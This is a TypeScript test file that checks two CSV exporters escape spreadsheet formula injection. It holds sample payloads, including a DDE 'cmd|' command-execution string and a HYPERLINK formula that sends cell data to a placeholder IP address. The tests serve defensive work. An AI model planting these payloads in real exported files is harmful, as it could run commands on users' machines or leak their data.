import { expect, test } from 'vitest';
import type { TwinTable } from '../charts/chart-model.ts';
import { panelCsv } from './panel-csv.ts';
import { RejectedCsv } from './rejected-csv.ts';

/** What spreadsheet programs have been made to run: calls, links that send cells away, old data links, other widths. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-2+3+cmd|x!A1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\uff1d1+1',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"Open")',
  'x;=1+1',
];

/** The file that every one of them must come to, cell for cell. */
const DISARMED = [
  `'=1+1`,
  `'+1+1`,
  `'-2+3+cmd|x!A1`,
  `'@SUM(1)`,
  `'\t'=1`,
  `"'\r'=1"`,
  `'\uff1d1+1`,
  `"'=HYPERLINK(""http://192.0.2.1/?""&A1,""Open"")"`,
  `x;'=1+1`,
];

test('the table of a panel: 9 formulas as labels are 9 texts, and 9 negative numbers stay numbers', () => {
  const table: TwinTable = {
    columns: [
      { id: 'team', label: '=Team', form: 'text' },
      { id: 'change', label: 'Change', form: 'count' },
    ],
    rows: FORMULAS.map((label, index) => ({ cells: [label, -index - 1], open: null })),
    total: ['=Total', -45],
  };
  const file = panelCsv(table, { title: '=1+1', lines: ['@x', '=2'] });
  expect(file.split('\r\n')).toEqual([
    '\ufeff# =1+1',
    '# @x',
    '# =2',
    "'=Team,Change",
    ...DISARMED.map((cell, index) => `${cell},${-index - 1}`),
    "'=Total,-45",
    '',
  ]);
});

test('the rejected rows of an import: formulas in the head, the cells, the reason and beyond the columns are texts', () => {
  const csv = new RejectedCsv();
  const bytes = csv.encode([
    { line: 2, message: '=reason', fields: FORMULAS.map((text, index) => [`=column ${index}`, text]) },
    { line: 3, message: 'has 10 cells', fields: [['cell 10', '=1']] },
  ]);
  expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).split('\r\n')).toEqual([
    `\ufeff${FORMULAS.map((_, index) => `'=column ${index}`)},Lookback line,Lookback reason`,
    `${DISARMED},2,'=reason`,
    ",,,,,,,,,3,has 10 cells,'=1",
    '',
  ]);
});
